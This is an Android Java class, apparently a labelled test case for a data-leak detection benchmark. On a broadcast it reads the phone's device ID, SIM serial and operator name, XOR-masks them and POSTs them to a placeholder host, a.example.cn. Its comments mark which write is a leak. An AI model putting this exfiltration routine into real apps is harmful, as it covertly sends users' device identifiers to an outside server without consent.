package olden;

import android.content.*;
import android.telephony.*;

import java.io.*;
import java.net.*;

/** Bytes masked with a key and written in parts. */
public class Masked extends BroadcastReceiver {
    private static byte[] key = {0x12, 0x55, 0x6a, 0x33};

    static byte[] xor(byte[] in) {
        byte[] out = new byte[in.length];
        for (int i = 0; i < in.length; i++) out[i] = (byte) (in[i] ^ key[i % key.length]);
        return out;
    }

    public void onReceive(final Context ctx, Intent in) {
        new Thread() {
            public void run() {
                try {
                    TelephonyManager tm =
                            (TelephonyManager) ctx.getSystemService(Context.TELEPHONY_SERVICE);
                    String s =
                            tm.getDeviceId()
                                    + "|"
                                    + tm.getSimSerialNumber()
                                    + "|"
                                    + tm.getNetworkOperatorName();
                    post("http://a.example.cn/i.jsp", xor(s.getBytes()));
                    postc("http://a.example.cn/p.jsp", xor("ping".getBytes()));
                } catch (IOException e) {
                    e.printStackTrace();
                }
            }
        }.start();
    }

    static void post(String u, byte[] d) throws IOException {
        HttpURLConnection c = (HttpURLConnection) new URL(u).openConnection();
        c.setDoOutput(true);
        c.setRequestMethod("POST");
        OutputStream o = c.getOutputStream();
        DataOutputStream dos = new DataOutputStream(o);
        int off = 0;
        while (off < d.length) {
            int n = Math.min(512, d.length - off);
            dos.write(d, off, n); // leak
            off += n;
        }
        dos.flush();
        c.getInputStream().close();
    }

    static void postc(String u, byte[] d) throws IOException {
        HttpURLConnection c = (HttpURLConnection) new URL(u).openConnection();
        OutputStream o = c.getOutputStream();
        for (byte b : d) o.write(b); // no leak
        o.close();
    }
}
